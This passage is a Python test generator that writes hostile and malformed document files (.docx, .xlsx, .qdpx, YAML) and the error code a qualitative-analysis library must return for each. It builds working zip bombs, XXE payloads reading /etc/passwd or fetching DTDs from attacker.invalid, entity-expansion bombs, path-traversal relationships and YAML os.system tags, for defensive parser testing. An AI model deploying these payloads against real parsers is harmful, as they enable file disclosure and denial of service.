"""Generate a corpus of hostile and broken input files, and what mcqual must answer for each.

``python tests/hostile.py OUTDIR`` writes every case into OUTDIR (plus ``cases.tsv``:
file, reader, expected). Importable: :data:`CASES` lists :class:`Case` objects and
:func:`write_all` writes them. Nothing here is hand-picked bytes from the wild: each file
is built by a small function so the corpus is reproducible and can be extended.

``expected`` is the numbered error (``"E104"``) or ``"ok"`` when the file is valid and must
be read. ``reader`` is ``transcript`` (``mq.read_transcripts`` of one file) or
``codebook`` (``mq.load_codebook``).
"""
from __future__ import annotations

import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

sys.path.insert(0, str(Path(__file__).resolve().parent))
from docx_factory import NS, make_docx, p, table  # noqa: E402

CT = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
      'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
      'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>').encode()
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"


def _rels(target: str, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            f'package/2006/relationships"><Relationship Id="rId1" Type="{REL}" Target="{target}"{mode}/>'
            '</Relationships>').encode()


def _document(body: str, prolog: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<w:document {NS}><w:body>{body}</w:body>'
            '</w:document>').encode()


def _zip(path: Path, parts: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)


def _package(path: Path, document: bytes, *, target: str = "word/document.xml", rels: bytes | None = None,
             main: str | None = "word/document.xml") -> None:
    parts = {"[Content_Types].xml": CT, "_rels/.rels": rels if rels is not None else _rels(target)}
    if main:
        parts[main] = document
    _zip(path, parts)


# --- raw zip writing (for bombs whose headers lie or whose data is never materialised) -------------

def _raw_zip(path: Path, entries: list[tuple[str, bytes, int, int, int, int]]) -> None:
    """Write a zip from (name, stored bytes, method, crc, compressed size, declared size) by hand."""
    central, offset = [], 0
    with open(path, "wb") as fh:
        for name, data, method, crc, csize, usize in entries:
            n = name.encode()
            head = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, csize, usize, len(n), 0)
            fh.write(head + n)
            fh.write(data)
            central.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc,
                                       csize, usize, len(n), 0, 0, 0, 0, 0, offset) + n)
            offset += len(head) + len(n) + len(data)
        cd = b"".join(central)
        fh.write(cd)
        fh.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(cd), offset, 0))


def _deflated(data: bytes) -> tuple[bytes, int, int, int]:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    raw = c.compress(data) + c.flush()
    return raw, zlib.crc32(data), len(raw), len(data)


def _zero_bomb(gib: float) -> tuple[bytes, int, int]:
    """A raw deflate stream of ``gib`` GiB of spaces inside an XML element, built without inflating it."""
    mib = 2**20
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = b'<?xml version="1.0"?><w:document ' + NS.encode() + b"><w:body><w:p><w:r><w:t>"
    out = [c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)]
    block = b" " * mib
    chunk = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)  # after a full flush the history is reset:
    n = int(gib * 1024)                                      # the same bytes encode every further MiB
    out.append(chunk * n)
    out.append(c.compress(b"</w:t></w:r></w:p></w:body></w:document>") + c.flush())
    crc = zlib.crc32(head)
    for _ in range(n):
        crc = zlib.crc32(block, crc)
    size = len(head) + n * mib + len(b"</w:t></w:r></w:p></w:body></w:document>")
    crc = zlib.crc32(b"</w:t></w:r></w:p></w:body></w:document>", crc)
    return b"".join(out), crc, size


def _space_bomb(head: bytes, tail: bytes, mib: int) -> tuple[bytes, int, int]:
    """A raw deflate stream: ``head``, ``mib`` MiB of spaces, ``tail`` (about 1 KB a MiB, never materialised)."""
    block = b" " * 2**20
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = [c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)]
    out.append((c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)) * mib)
    out.append(c.compress(tail) + c.flush())
    crc = zlib.crc32(head)
    for _ in range(mib):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    return b"".join(out), crc, len(head) + mib * 2**20 + len(tail)


def zip_bomb(path: Path, *, lie: bool = False, gib: float = 2.0) -> None:
    """A .docx whose document.xml inflates to ``gib`` GiB; ``lie`` declares a tiny size in the headers."""
    data, crc, size = _zero_bomb(gib)
    entries = [("[Content_Types].xml", *_deflated(CT)), ("_rels/.rels", *_deflated(_rels("word/document.xml")))]
    entries = [(n, d, 8, crc_, cs, us) for n, d, crc_, cs, us in entries]
    entries.append(("word/document.xml", data, 8, crc, len(data), 4096 if lie else size))
    _raw_zip(path, entries)


# --- OLE compound files -------------------------------------------------------------------------

def ole(path: Path, streams: list[str]) -> None:
    """A minimal OLE2 compound file whose directory names ``streams`` (what the sniffer looks at)."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<I", header, 48, 1)  # first directory sector
    directory = bytearray(512)
    for i, name in enumerate(["Root Entry", *streams][:4]):
        raw = name.encode("utf-16-le") + b"\0\0"
        directory[i * 128:i * 128 + len(raw)] = raw
        struct.pack_into("<HB", directory, i * 128 + 64, len(raw), 5 if i == 0 else 2)
    path.write_bytes(bytes(header) + bytes(512) + bytes(directory) + b"\0" * 4096)


# --- the cases ----------------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    """One hostile file: how to write it, how mcqual reads it, what must come out."""

    name: str
    filename: str
    write: Callable[[Path], None]
    expected: str
    reader: str = "transcript"
    note: str = ""
    max_seconds: float = 5.0
    max_mb: int = 500


def _good_docx(path: Path) -> None:
    make_docx(path, [p("Interviewer: Do employers trust digital badges?"),
                     p("R1: Only when the issuer is a chamber or a university.")])


def _truncated(path: Path) -> None:
    _good_docx(path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _missing_central_directory(path: Path) -> None:
    _good_docx(path)
    data = path.read_bytes()
    path.write_bytes(data[: data.rfind(b"PK\x01\x02")])


def _corrupt_member(path: Path) -> None:
    _good_docx(path)
    data = bytearray(path.read_bytes())
    i = data.find(b"word/document.xml") + len(b"word/document.xml")
    for k in range(i + 5, i + 40):
        data[k] ^= 0x5A
    path.write_bytes(bytes(data))


XXE = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
XXE_NET = '<!DOCTYPE w:document SYSTEM "http://attacker.invalid/evil.dtd">'
PARAM = ('<!DOCTYPE w:document [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>')
LAUGHS = ("<!DOCTYPE w:document [<!ENTITY lol \"lol\">"
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                    for i in range(1, 10)) + "]>")
QUADRATIC = '<!DOCTYPE w:document [<!ENTITY a "' + "x" * 50_000 + '">]>'


def _entity_doc(prolog: str, ref: str) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        _package(path, _document(p("Interviewer: Hello?") + f"<w:p><w:r><w:t>{ref}</w:t></w:r></w:p>", prolog))
    return write


def _xxe_in_rels(path: Path) -> None:
    rels = _rels("word/document.xml").replace(b"?>", b"?>" + XXE.replace("w:document", "Relationships").encode(), 1)
    _package(path, _document(p("Interviewer: Hello?")), rels=rels)


def _xxe_in_core(path: Path) -> None:
    make_docx(path, [p("Interviewer: Hello?"), p("R: Hi.")], core={"title": "t", "creator": "x"})
    with zipfile.ZipFile(path) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    core = parts["docProps/core.xml"].decode()
    parts["docProps/core.xml"] = core.replace("?>", "?>" + XXE.replace("w:document", "cp:coreProperties"), 1).replace(
        "<dc:title>t</dc:title>", "<dc:title>&xxe;</dc:title>").encode()
    _zip(path, parts)


def _nested_tables(depth: int) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        inner = p("R1: the deepest cell.")
        for _ in range(depth):
            inner = f"<w:tbl><w:tr><w:tc>{inner}</w:tc></w:tr></w:tbl>"
        _package(path, _document(p("Interviewer: Tables?") + inner + p("")))
    return write


def _many_paragraphs(path: Path) -> None:
    body = "".join(p(f"{'Interviewer' if i % 2 == 0 else 'R1'}: ok {i}.") for i in range(10_000))
    _package(path, _document(body))


def _prose(n_words: int, seed: int = 9) -> str:
    """Pseudo-random prose (compresses like real text, about 4:1, not like a repeated phrase)."""
    import random

    rng = random.Random(seed)
    vocab = [a + b for a in ("mi", "cro", "cre", "den", "ti", "al", "sta", "ck", "tru", "st", "ba", "dge")
             for b in ("", "s", "ing", "ed", "ly", "er", "ion", "al")]
    return " ".join(rng.choice(vocab) + rng.choice(("", "", "", ",", ".")) for _ in range(n_words))


def _huge_paragraph(path: Path) -> None:
    text = _prose(900_000)  # about 6 MB in one paragraph
    _package(path, _document(p("Interviewer: Tell me everything.") + p("R1: " + text)))


def _many_runs(path: Path) -> None:
    runs = "".join(f"<w:r><w:t>w{i} </w:t></w:r>" for i in range(200_000))
    _package(path, _document(f"<w:p><w:r><w:t>R1: </w:t></w:r>{runs}</w:p>"))


def _many_members(path: Path) -> None:
    parts = {"[Content_Types].xml": CT, "_rels/.rels": _rels("word/document.xml"),
             "word/document.xml": _document(p("Interviewer: Hi?") + p("R1: Hello."))}
    parts.update({f"junk/{i}.xml": b"<a/>" for i in range(20_000)})
    _zip(path, parts)


# --- REFI-QDA (.qdpx / .qde / .qdc) ------------------------------------------------------------

QDE_NS = "urn:QDA-XML:project:1.0"
GUID1 = "10000000-0000-4000-8000-000000000001"


def _qde(sources: str, prolog: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<Project xmlns="{QDE_NS}" name="p">'
            f"<Sources>{sources}</Sources></Project>").encode()


def _text_source(name: str = "int-01", desc: str = "", path: str = "internal://x.txt") -> str:
    d = f"<Description>{desc}</Description>" if desc else ""
    return f'<TextSource guid="{GUID1}" name="{name}" plainTextPath="{path}">{d}</TextSource>'


def _qdpx(path: Path, qde: bytes, files: dict[str, bytes] | None = None) -> None:
    _zip(path, {"project.qde": qde, **(files or {})})


def qdpx_bomb(path: Path, *, mib: int = 300, lie: bool = False) -> None:
    """A ~300 KB .qdpx whose sources/x.txt inflates to ``mib`` MiB (``lie``: headers declare 4 KiB)."""
    data, crc, size = _space_bomb(b"Interviewer: hello", b"R: bye", mib)
    entries = [("project.qde", *_deflated(_qde(_text_source())))]
    entries = [(n, d, 8, crc_, cs, us) for n, d, crc_, cs, us in entries]
    entries.append(("sources/x.txt", data, 8, crc, len(data), 4096 if lie else size))
    _raw_zip(path, entries)


def _qdpx_surrogate(path: Path) -> None:
    """A transcript description (JSON) whose speaker holds a lone surrogate escape: exports must not crash."""
    desc = ('mcqual-transcript {"id": "int-01", "turns": [[0, 12, "\\ud800Ana", null, null], '
            '[14, 21, "R\\udfff", null, "respondent"]], "language": "en"}')
    _qdpx(path, _qde(_text_source(desc=desc)), {"sources/x.txt": "Do you know?\n\nYes, I.".encode()})


QDC_DOCTYPE = ('<?xml version="1.0" encoding="{enc}"?><!DOCTYPE CodeBook [<!ENTITY e "defined">]>'
               '<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes><Code guid="' + GUID1 + '" name="trust" '
               'isCodable="true"><Description>&e; and the text after it</Description></Code></Codes></CodeBook>')


# --- spreadsheets (.xlsx) ----------------------------------------------------------------------

_XLSX_CT = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName='
            '"/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.'
            'main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>').encode()
_XLSX_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
              'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
              'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>').encode()
_XLSX_WB = ('<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>').encode()
_XLSX_WB_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                 'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                 'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
                 '</Relationships>').encode()
_SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
               b'spreadsheetml/2006/main"><sheetData>')
_SHEET_TAIL = b"</sheetData></worksheet>"


def _xlsx_parts() -> list[tuple[str, bytes]]:
    return [("[Content_Types].xml", _XLSX_CT), ("_rels/.rels", _XLSX_RELS), ("xl/workbook.xml", _XLSX_WB),
            ("xl/_rels/workbook.xml.rels", _XLSX_WB_RELS)]


def _cell(ref: str, value: str) -> str:
    from xml.sax.saxutils import escape

    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(value)}</t></is></c>'


def xlsx(path: Path, rows_xml: str) -> None:
    """A workbook whose one sheet holds ``rows_xml`` (``<row>`` elements) as written."""
    _zip(path, dict(_xlsx_parts() + [("xl/worksheets/sheet1.xml", _SHEET_HEAD + rows_xml.encode() + _SHEET_TAIL)]))


def xlsx_bomb_cell(path: Path, *, mib: int = 300) -> None:
    """A ~300 KB .xlsx whose sheet holds one inline-string cell of ``mib`` MiB."""
    head = _SHEET_HEAD + b'<row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c></row><row r="2">' \
        + b'<c r="A2" t="inlineStr"><is><t>'
    data, crc, size = _space_bomb(head, b"x</t></is></c></row>" + _SHEET_TAIL, mib)
    entries = [(n, *_deflated(d)) for n, d in _xlsx_parts()]
    entries = [(n, d, 8, crc_, cs, us) for n, d, crc_, cs, us in entries]
    entries.append(("xl/worksheets/sheet1.xml", data, 8, crc, len(data), size))
    _raw_zip(path, entries)


def _survey_rows(n: int, *, far: bool = False) -> str:
    head = '<row r="1">' + _cell("A1", "respondent_id") + _cell("B1", "country") + \
        _cell("C1", "Q1. What makes you trust a micro-credential?") + "</row>"
    rows = [head]
    answers = ("The issuer is a university I know.", "Only if an employer asks for it.",
               "The ECTS credits and the assessment.", "Nothing, I trust the platform.")
    for i in range(2, n + 2):
        cells = _cell(f"A{i}", f"R{i:06d}") + _cell(f"B{i}", ("PL", "DE", "FR", "IT")[i % 4]) + \
            _cell(f"C{i}", answers[i % 4] + f" ({i})")
        if far:
            cells += _cell(f"XFD{i}", "x")
        rows.append(f'<row r="{i}">{cells}</row>')
    return "".join(rows)


def _codebook_xlsx_bomb(path: Path) -> None:
    xlsx_bomb_cell(path, mib=300)


def _utf16_doctype_docx(path: Path) -> None:
    xml = (f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w:document [<!ENTITY e "x">]><w:document {NS}>'
           '<w:body><w:p><w:r><w:t>Interviewer: Hello &e; and the words after it</w:t></w:r></w:p>'
           '</w:body></w:document>').encode("utf-16")
    _package(path, xml)


def _long_text_node(path: Path) -> None:
    """One paragraph of 10.5 million characters (over libxml2's 10,000,000 limit for one text run)."""
    text = _prose(120_000, seed=3)
    text = (text * (10_500_000 // len(text) + 1))[:10_500_000]
    _package(path, _document(p("Interviewer: Tell me everything.") + p("R1: " + text)))


YAML_DEEP = "codes: " + "[" * 5000 + "]" * 5000 + "\n"


CODEBOOK_OK = "codes:\n  - id: trust\n    keywords: [accreditation, quality assurance]\n"
YAML_LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8)) + \
    "codes:\n  - id: x\n    keywords: *i\n"


CASES: list[Case] = [
    # valid files that must be read
    Case("good_docx", "good.docx", _good_docx, "ok"),
    Case("many_paragraphs", "many_paragraphs.docx", _many_paragraphs, "ok", note="10,000 tiny paragraphs"),
    Case("huge_paragraph", "huge_paragraph.docx", _huge_paragraph, "ok", note="one 6 MB paragraph"),
    Case("many_runs", "many_runs.docx", _many_runs, "ok", note="200,000 runs in one paragraph"),
    Case("nested_tables_50", "nested_tables_50.docx", _nested_tables(50), "ok", note="tables nested 50 deep"),
    Case("many_members", "many_members.docx", _many_members, "ok", note="20,000 junk zip members"),
    Case("many_lines_txt", "many_lines.txt",
         lambda f: f.write_text("".join(f"{'I' if i % 2 else 'R'}: line {i}\n" for i in range(10_000)),
                                encoding="utf-8"), "ok"),
    Case("huge_line_txt", "huge_line.txt",
         lambda f: f.write_text("R1: " + "badges and stacking " * 400_000, encoding="utf-8"), "ok",
         note="one 8 MB line"),
    Case("cp1252_txt", "latin.txt",
         lambda f: f.write_bytes("Interviewer: Was ist Ihre Rolle?\nR: Ich bin Ausbilderin in Köln.\n".encode("cp1252")),
         "ok", note="stray non-UTF-8 bytes: decoded as Windows-1252"),
    Case("codebook_ok", "codebook_ok.yaml", lambda f: f.write_text(CODEBOOK_OK), "ok", reader="codebook"),
    # broken packages
    Case("zero_bytes_docx", "zero.docx", lambda f: f.write_bytes(b""), "E108"),
    Case("zero_bytes_txt", "zero.txt", lambda f: f.write_bytes(b""), "E108"),
    Case("not_a_zip", "garbage.docx", lambda f: f.write_bytes(bytes(range(256)) * 64), "E101"),
    Case("truncated_zip", "truncated.docx", _truncated, "E104"),
    Case("no_central_directory", "no_cd.docx", _missing_central_directory, "E104"),
    Case("corrupt_member", "corrupt_member.docx", _corrupt_member, "E104"),
    Case("zip_bomb", "zip_bomb.docx", zip_bomb, "E107", note="document.xml inflates to 2 GiB"),
    Case("zip_bomb_lying", "zip_bomb_lying.docx", lambda f: zip_bomb(f, lie=True), "E104",
         note="2 GiB stream, headers declare 4 KiB: inflating stops at the declared size, CRC fails"),
    Case("empty_zip", "empty_zip.docx", lambda f: _zip(f, {}), "E105"),
    Case("no_rels_no_doc", "no_main.docx", lambda f: _zip(f, {"[Content_Types].xml": CT, "hello.txt": b"hi"}),
         "E105"),
    Case("rels_outside", "rels_outside.docx",
         lambda f: _package(f, _document(p("x")), target="../../../../etc/passwd", main="word/other.xml"), "E105"),
    Case("rels_absolute", "rels_absolute.docx",
         lambda f: _package(f, _document(p("x")), target="/etc/passwd", main=None), "E105"),
    Case("rels_external", "rels_external.docx",
         lambda f: _package(f, b"", rels=_rels("http://attacker.invalid/doc.xml", external=True), main=None), "E105"),
    Case("rels_missing_part", "rels_missing.docx",
         lambda f: _package(f, b"", target="word/nothere.xml", main=None), "E105"),
    Case("malformed_xml", "malformed.docx",
         lambda f: _package(f, b"<w:document><w:body><w:p>unclosed"), "E106"),
    Case("xxe_file", "xxe.docx", _entity_doc(XXE, "&xxe;"), "E106"),
    Case("xxe_network_dtd", "xxe_dtd.docx", _entity_doc(XXE_NET, ""), "E106"),
    Case("xxe_parameter_entity", "xxe_param.docx", _entity_doc(PARAM, ""), "E106"),
    Case("billion_laughs", "laughs.docx", _entity_doc(LAUGHS, "&lol9;"), "E106"),
    Case("quadratic_blowup", "quadratic.docx", _entity_doc(QUADRATIC, "&a;" * 2000), "E106"),
    Case("xxe_in_rels", "xxe_rels.docx", _xxe_in_rels, "E106"),
    Case("xxe_in_core_props", "xxe_core.docx", _xxe_in_core, "ok",
         note="an unsafe optional part (core properties) is skipped; the body is read"),
    Case("nested_tables_5000", "nested_tables_5000.docx", _nested_tables(5000), "E106",
         note="deeper than the XML parser's depth limit"),
    # other formats renamed .docx
    Case("encrypted_word", "encrypted.docx", lambda f: ole(f, ["EncryptionInfo", "EncryptedPackage"]), "E102"),
    Case("legacy_doc", "legacy.docx", lambda f: ole(f, ["WordDocument", "1Table"]), "E103"),
    Case("rtf_renamed", "rtf.docx", lambda f: f.write_bytes(b"{\\rtf1\\ansi Interviewer: hello}"), "E116"),
    Case("pdf_renamed", "pdf.docx", lambda f: f.write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"), "E116"),
    # text files
    Case("binary_txt", "binary.txt", lambda f: f.write_bytes(b"\x00\x01\x02\xff\xfe\x00" * 500), "E109"),
    Case("undecodable_txt", "undecodable.txt",
         lambda f: f.write_bytes(b"Interviewer: hello \x81\x8d\x8f\x90\x9d world\n"), "E109",
         note="bytes invalid in UTF-8 and undefined in Windows-1252"),
    Case("bad_bom_txt", "bad_bom.txt", lambda f: f.write_bytes(b"\xef\xbb\xbfR: ok \xff\xfe\xfd\n"), "E109"),
    Case("docx_renamed_txt", "package.txt", _good_docx, "E110"),
    Case("pdf_renamed_txt", "pdf.txt", lambda f: f.write_bytes(b"%PDF-1.4\n"), "E116"),
    Case("vtt_no_header", "bad.vtt", lambda f: f.write_text("00:00.000 --> 00:01.000\nhello\n"), "E111"),
    Case("srt_no_timing", "bad.srt", lambda f: f.write_text("1\nhello there\n\n2\nagain\n"), "E111"),
    # codebooks
    Case("yaml_alias_bomb", "laughs.yaml", lambda f: f.write_text(YAML_LAUGHS), "E211", reader="codebook"),
    Case("yaml_python_tag", "python_tag.yaml",
         lambda f: f.write_text("codes:\n  - id: !!python/object/apply:os.system ['echo pwned']\n"), "E211",
         reader="codebook"),
    Case("yaml_python_name", "python_name.yaml",
         lambda f: f.write_text("codes: !!python/name:os.system\n"), "E211", reader="codebook"),
    Case("yaml_invalid", "invalid.yaml", lambda f: f.write_text("codes:\n  - id: trust\n   bad: [\n"), "E201",
         reader="codebook"),
    Case("yaml_empty", "empty.yaml", lambda f: f.write_bytes(b""), "E207", reader="codebook"),
    Case("yaml_nested_5000", "deep.yaml", lambda f: f.write_text(YAML_DEEP), "E201", reader="codebook",
         note="lists nested 5,000 deep: E201, not a raw RecursionError"),
    # issue 20: encodings, XML declarations, text nodes
    Case("nul_in_ascii_txt", "nul_ascii.txt",
         lambda f: f.write_bytes(b"Interviewer: hello\x00 there\nR: fine\x00\x00\n"), "ok",
         note="a few NULs in ASCII text: not UTF-16; the NULs are dropped"),
    Case("utf16_docx_doctype", "utf16_doctype.docx", _utf16_doctype_docx, "E106",
         note="a UTF-16 document.xml with <!DOCTYPE>: refused like a UTF-8 one"),
    Case("text_node_10m", "text_node_10m.docx", _long_text_node, "E107", max_seconds=20, max_mb=700,
         note="one paragraph of 10.5 M characters: too long (E107), not malformed (E106)"),
    Case("qdc_doctype", "doctype.qdc", lambda f: f.write_text(QDC_DOCTYPE.format(enc="UTF-8")), "E213",
         reader="codebook", note="entities never resolved: text after one would be lost"),
    Case("qdc_doctype_utf16", "doctype16.qdc",
         lambda f: f.write_bytes(QDC_DOCTYPE.format(enc="UTF-16").encode("utf-16")), "E213", reader="codebook"),
    # REFI-QDA projects
    Case("qdpx_bomb", "bomb.qdpx", qdpx_bomb, "E640", reader="qdpx",
         note="~300 KB archive, sources/x.txt inflates to 300 MiB: refused before inflating"),
    Case("qdpx_bomb_lying", "bomb_lying.qdpx", lambda f: qdpx_bomb(f, lie=True), "E601", reader="qdpx",
         note="300 MiB stream, headers declare 4 KiB: inflating stops at the declared size, CRC fails"),
    Case("qde_doctype", "doctype.qde",
         lambda f: f.write_bytes(_qde(_text_source(), '<!DOCTYPE Project [<!ENTITY e "x">]>')), "E640",
         reader="qdpx"),
    Case("qdpx_doctype", "doctype.qdpx",
         lambda f: _qdpx(f, _qde(_text_source(), '<!DOCTYPE Project [<!ENTITY e "x">]>'),
                         {"sources/x.txt": b"Hello."}), "E640", reader="qdpx"),
    Case("qdpx_surrogate_export", "surrogate.qdpx", _qdpx_surrogate, "ok", reader="qdpx_export",
         note="a lone surrogate in a description's JSON: replaced by U+FFFD; .qdpx and Excel exports work"),
    # spreadsheets
    Case("xlsx_bomb_survey", "bomb_survey.xlsx", xlsx_bomb_cell, "E118", reader="survey",
         note="~300 KB .xlsx, one inline-string cell of 300 MiB: refused before inflating"),
    Case("xlsx_bomb_attributes", "bomb_cases.xlsx", xlsx_bomb_cell, "E118", reader="attributes"),
    Case("xlsx_bomb_codebook", "bomb_codebook.xlsx", _codebook_xlsx_bomb, "E214", reader="codebook"),
    Case("xlsx_far_column", "far_column.xlsx", lambda f: xlsx(f, _survey_rows(2_000, far=True)), "E118",
         reader="survey", note="every row also fills column XFD: 2,000 rows x 16,384 columns padded"),
]

_SENTENCES = ("So how did you first hear about the course?", "Through my employer, they sent a link.",
              "Did anyone check the badge afterwards?", "Not really, but I put it on my CV.",
              "What would make you trust it more?", "If the university name and the ECTS were on it.",
              "And the assessment, was it proctored?", "Yes, online, with the camera on the whole time.")


def many_lines_txt(path: Path, n: int = 1_000_000) -> None:
    """``n`` one-line turns of about 12 bytes (``I: ok 123.``): the shape that blew memory (1.5 GB for 12 MB)."""
    with open(path, "w", encoding="utf-8") as fh:
        for k in range(0, n, 10_000):
            fh.write("".join(f"{'I' if i % 2 == 0 else 'R'}: ok {i % 10000}.\n" for i in range(k, min(n, k + 10_000))))


def big_txt(path: Path, megabytes: int = 44) -> None:
    """A transcript of about ``megabytes`` MB, Interviewer/R1 turns of one sentence each (about 45 bytes a line)."""
    target = megabytes * 10**6
    with open(path, "w", encoding="utf-8") as fh:
        size = i = 0
        while size < target:
            chunk = "".join(f"{'Interviewer' if j % 2 == 0 else 'R1'}: {_SENTENCES[j % 8]}\n"
                            for j in range(i, i + 10_000))
            fh.write(chunk)
            size += len(chunk)
            i += 10_000


def many_paragraphs_docx(path: Path, n: int = 1_000_000) -> None:
    """``n`` one-line paragraphs in one document.xml (64 MiB inflated): 2.3 GB and 29 s before."""
    parts = [p(f"{'I' if i % 2 == 0 else 'R'}: ok {i}.") for i in range(n)]
    _package(path, _document("".join(parts)))


def big_part_docx(path: Path, mib: int = 120) -> None:
    """A document.xml of about ``mib`` MiB: 1,360 turns of 92 KB (parts up to 128 MiB are read)."""
    chunk = _prose(16_000, seed=5)  # about 100 KB of prose
    n = mib * 2**20 // (len(chunk) + 80)
    _package(path, _document("".join(p(f"{'Interviewer' if i % 2 == 0 else 'R1'}: {i} {chunk}") for i in range(n))))


#: big valid files (tests/test_hostile_large.py): each must be read whole within its time and memory limits;
#: ``max_seconds`` is CPU time there (the child is killed after four times as long on the wall clock)
LARGE_CASES: list[Case] = [
    Case("txt_1m_lines", "many_lines_1m.txt", many_lines_txt, "ok", max_seconds=30, max_mb=450,
         note="1,000,000 lines, 12 MB: one turn a line"),
    Case("txt_44mb", "big_44mb.txt", big_txt, "ok", max_seconds=45, max_mb=700,
         note="44 MB (under the 50 MB limit), about 1 million turns of one sentence"),
    Case("docx_1m_paragraphs", "many_paragraphs_1m.docx", many_paragraphs_docx, "ok", max_seconds=60, max_mb=700,
         note="1,000,000 paragraphs, 64 MiB of document.xml (2.6 MB zipped)"),
    Case("docx_part_120mib", "part_120mib.docx", big_part_docx, "ok", max_seconds=30, max_mb=700,
         note="one document.xml of 120 MiB (limit 128 MiB): 1,360 turns of 92 KB"),
]



def write_all(outdir: str | Path, cases: list[Case] | None = None) -> list[tuple[Path, Case]]:
    """Write every case into ``outdir``; returns (path, case) pairs."""
    out = Path(outdir)
    out.mkdir(parents=True, exist_ok=True)
    written = []
    for case in cases or CASES:
        path = out / case.filename
        case.write(path)
        written.append((path, case))
    return written


def read_case(path: Path, case: Case) -> dict:
    """Read one file the way a researcher would; the outcome as a dict (code, message, size)."""
    import mcqual as mq

    try:
        if case.reader == "codebook":
            cb = mq.load_codebook(path)
            return {"got": "ok", "size": len(cb.ids), "message": ""}
        if case.reader in ("qdpx", "qdpx_export"):
            project = mq.read_qdpx(path)
            out = {"got": "ok", "size": len(project.corpus), "message": ""}
            if case.reader == "qdpx_export":
                import io

                from mcqual.export.excel import to_excel

                buf = io.BytesIO()
                mq.to_qdpx(project, buf)
                back = mq.read_qdpx(io.BytesIO(buf.getvalue()))
                to_excel(io.BytesIO(), {"turns": project.corpus.to_frame()})
                out["speakers"] = repr([t.speakers for t in back.corpus])
                out["warnings"] = repr([w for t in project.corpus for w in t.warnings])
            return out
        if case.reader == "survey":
            s = mq.read_survey(path)
            return {"got": "ok", "size": len(s), "message": ""}
        if case.reader == "attributes":
            a = mq.read_attributes(path)
            return {"got": "ok", "size": len(a), "message": ""}
        corpus = mq.read_transcripts([path])
        if corpus.errors:
            err = corpus.errors[0].error
            return {"got": err.code, "message": str(err), "type": type(err).__name__}
        t = corpus[corpus.ids[0]]
        return {"got": "ok", "size": len(t.text), "turns": len(t.turns), "message": "",
                "metadata": repr(dict(t.metadata))[:2000]}
    except mq.McqualError as err:
        return {"got": err.code, "message": str(err), "type": type(err).__name__}
    except BaseException as exc:  # noqa: BLE001 - reported, never hidden
